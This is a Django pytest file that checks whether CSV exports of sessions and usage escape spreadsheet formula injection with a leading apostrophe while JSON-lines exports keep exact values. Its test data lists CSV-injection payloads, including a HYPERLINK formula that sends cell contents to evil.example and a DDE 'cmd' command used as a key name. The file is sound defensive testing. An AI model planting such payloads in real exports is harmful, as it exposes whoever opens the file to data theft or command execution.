"""Staff and user CSV exports neutralise spreadsheet formulas (OWASP "CSV injection", issue #18 item 8): a
client-chosen model string or key name that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is exported with a leading apostrophe; JSON lines keep the exact value."""

from __future__ import annotations

import csv
import io
import json
import uuid

import pytest
from django.urls import reverse

from apikeys.models import ApiKey
from sessions import services

from .conftest import session_row, usage

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\tleading tab",
    "\rleading cr",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_cell_gets_a_leading_apostrophe(value):
    from sessions.views import _csv_cell

    assert _csv_cell(value) == "'" + value
    assert _csv_cell([value, "openai/gpt-5-mini"]) == "'" + value + ",openai/gpt-5-mini"


@pytest.mark.parametrize("value", ["openai/gpt-5-mini", "a=b", "x-y", "", 5, -3, 1.5, None])
def test_other_cells_are_unchanged(value):
    from sessions.views import _csv_cell

    assert _csv_cell(value) == value
    assert _csv_cell(True) == "true" and _csv_cell(False) == "false"


def _rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize("who", ["user_client", "staff_client"])
def test_exports_neutralise_model_strings_and_key_names(request, key, who):
    ApiKey.objects.filter(pk=key.pk).update(name="=cmd|' /C calc'!A0")
    events = []
    for model in HOSTILE:
        sid = uuid.uuid1()
        events += [session_row(key, sid, models=[model]), usage(key, session_id=str(sid), models=[model])]
    services.do_record_events(events)
    client = request.getfixturevalue(who)
    sessions = _rows(client.get(reverse("dashboard:export", args=["sessions", "csv"])))
    used = _rows(client.get(reverse("dashboard:export", args=["usage", "csv"])))
    assert len(sessions) == len(HOSTILE) and len(used) == len(HOSTILE)
    assert sorted(r["models"] for r in sessions) == sorted("'" + m for m in HOSTILE)
    assert sorted(r["models"] for r in used) == sorted("'" + m for m in HOSTILE)
    assert {r["key_name"] for r in sessions} == {"'=cmd|' /C calc'!A0"}
    for row in sessions + used:  # no cell of either export starts a formula
        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row
    # JSON lines are data, not a spreadsheet: exact values.
    r = client.get(reverse("dashboard:export", args=["usage", "jsonl"]))
    lines = b"".join(r.streaming_content).decode().splitlines()
    models = sorted(",".join(json.loads(line)["models"]) for line in lines)
    assert models == sorted(HOSTILE)
